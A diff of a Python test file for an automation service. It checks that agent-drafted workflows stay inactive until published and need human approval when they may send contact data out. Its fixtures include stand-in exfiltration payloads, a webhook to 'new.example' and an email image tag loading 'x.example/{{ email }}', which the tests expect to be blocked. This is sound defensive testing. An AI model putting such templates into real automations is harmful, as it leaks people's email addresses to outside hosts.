@@ -146,14 +146,67 @@ async def test_another_person_approves_exactly_what_was_proposed(team: Team) -> 
     _, back = await team.call(both, "PUT", path, {"revision": revision + 1, "graph": graph()})
     assert (await team.call(both, "POST", f"{here}/approve"))[0] == 409  # this key wrote the draft
     assert (await team.person("POST", f"{here}/approve"))[1]["state"] == "approved"
-    assert (await team.person("POST", f"{here}/reject"))[0] == 409
     assert (await team.agent("POST", f"{path}/publish"))[1]["publishedVersion"] == 1
+    assert (await team.person("POST", f"{here}/reject"))[0] == 409  # it is published
     await team.agent("PUT", path, {"revision": back["revision"] + 1, "graph": graph("y")})
     await team.receipts(path)
     await team.agent("POST", f"{path}/publish")
     waiting = (await team.person("GET", "/approvals"))[1]["approvals"][0]
     assert (await team.person("POST", f"/approvals/{waiting['id']}/reject"))[1]["state"] == "rejected"
     assert "rejected" in (await team.agent("POST", f"{path}/publish"))[1]["error"]
+
+
+def sending(kind: str, data: dict[str, Any]) -> dict[str, Any]:
+    nodes = [{"id": "t", "type": "app_event"}, {"id": "s", "type": kind, "data": data}]
+    return {"nodes": nodes, "edges": [{"source": "t", "target": "s"}]}
+
+
+@pytest.mark.parametrize(
+    ("kind", "data", "reason"),
+    [
+        ("update_contact", {"attributes": {"seen": "{{ contact.email }}"}}, "step s prints the email address"),
+        ("send_webhook", {"url": "https://new.example/x", "body": {"n": 1}}, "sends to a host that no published"),
+        ("send_webhook", {"url": "https://new.example/x"}, "step s prints the email address; step s sends to a host"),
+        ("send_email", {"subject": "Hi", "body": "<img src='https://x.example/{{ email }}'>"}, "prints the email"),
+    ],
+)
+async def test_a_draft_that_may_carry_addresses_out_always_needs_an_approval_which_can_be_withdrawn(
+    team: Team, kind: str, data: dict[str, Any], reason: str
+) -> None:
+    path, _ = await team.draft(graph=sending(kind, data))
+    await team.receipts(path)
+    status, answer = await team.agent("POST", f"{path}/publish")
+    assert (status, reason in answer["error"]) == (409, True), answer
+    (approval,) = (await team.person("GET", "/approvals"))[1]["approvals"]
+    here = f"/approvals/{approval['id']}"
+    assert (await team.person("POST", f"{here}/approve"))[1]["state"] == "approved"
+    assert (await team.person("POST", f"{here}/reject"))[1]["state"] == "rejected"
+    assert "rejected" in (await team.agent("POST", f"{path}/publish"))[1]["error"]
+    actions = [action for (action,) in await team.org.rows("action", "audit_log")]
+    assert actions == ["automation.create", "automation.propose", "automation.approved", "automation.rejected"]
+
+
+async def test_what_an_agent_creates_starts_nothing_before_it_is_published(team: Team) -> None:
+    assert (await team.agent("POST", "/automations", DRAFT | {"active": True}))[0] == 403
+    path, revision = await team.draft()
+    assert (await team.agent("GET", path))[1]["active"] is False
+    assert (await team.agent("PUT", path, {"revision": revision, "triggerSpec": SPEC | {"event": "x"}}))[0] == 200
+    await team.receipts(path)
+    published = (await team.agent("POST", f"{path}/publish"))[1]
+    assert (published["active"], published["publishedVersion"]) == (True, 1)
+    made = (await team.person("POST", "/automations", DRAFT))[1]
+    edit = {"revision": made["revision"], "triggerSpec": SPEC | {"event": "x"}}
+    assert (await team.agent("PUT", f"/automations/{made['id']}", edit))[0] == 409  # its trigger is live
+    assert (await team.agent("PUT", f"/automations/{made['id']}", edit | {"triggerSpec": None}))[0] == 200
+
+
+async def test_a_key_that_reads_no_contacts_gets_no_backtest(team: Team) -> None:
+    path, _ = await team.draft()
+    statuses = [
+        (await team.call(scopes, "POST", f"{path}/receipts", {"kind": "backtest"}))[0]
+        for scopes in (AGENT, ("events:read", "automations:propose"))
+    ]
+    assert statuses == [200, 409]
 
 
 async def test_an_edit_that_races_with_a_publication_is_not_published_without_receipts(team: Team) -> None:
